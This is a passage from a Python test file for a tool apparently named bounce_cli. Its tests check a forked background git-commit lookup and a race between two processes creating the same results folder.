    forked while it looked up (a lane, a writer) looks it up itself, not a None."""
    import os
    import time

    from bounce_cli.runtime.forked import ForkedCall, can_fork

    calls = []

    def slow_git():
        calls.append(os.getpid())
        time.sleep(0.3)
        return "0123abcd"

    monkeypatch.setattr(artifacts, "_git_rev_parse", slow_git)
    lookup = artifacts._GitCommit()
    lookup.start()
    if can_fork():
        assert ForkedCall(lookup).start().wait() == "0123abcd"  # forked mid-look-up
    assert lookup() == "0123abcd" and lookup() == "0123abcd"
    assert calls.count(os.getpid()) == 1  # once in this process


def test_the_background_git_commit_is_what_git_says():
    assert artifacts.git_commit() == artifacts._git_rev_parse()


def test_runs_beside_each_other_share_the_folders_they_both_make(tmp_path):
    """bounce reproduce's lanes make their experiments' folders in one new results folder at
    the same moment: the one that loses the race to make it uses it (it failed with "File
    exists" once in 25 fresh reproduce runs), and only the winner records it as its own."""
    import multiprocessing

    context = multiprocessing.get_context("fork")
    for trial in range(20):
        root = tmp_path / f"t{trial}" / "results"
        barrier, answers = context.Barrier(2), context.Queue()
        workers = [context.Process(target=_make_run_directory, args=(root / f"e{i}", barrier,
                                                                      answers))
                   for i in range(2)]
        for worker in workers:
            worker.start()
        for worker in workers:
            worker.join(30)
        made = sorted(answers.get(timeout=5) for _ in workers)
        assert all(not str(m).startswith("error") for m in made), made
        assert sum(root in folders for folders in made) == 1  # one of them made it


def _make_run_directory(out, barrier, answers):
    barrier.wait()
    try:
        run = RunDirectory(out, command="x", resolved_config={}, overrides=[],
                           config_path=None)
        answers.put(run.created)
        run.release()
    except Exception as exc:  # noqa: BLE001 - sent to the test
        answers.put(f"error {exc!r}")
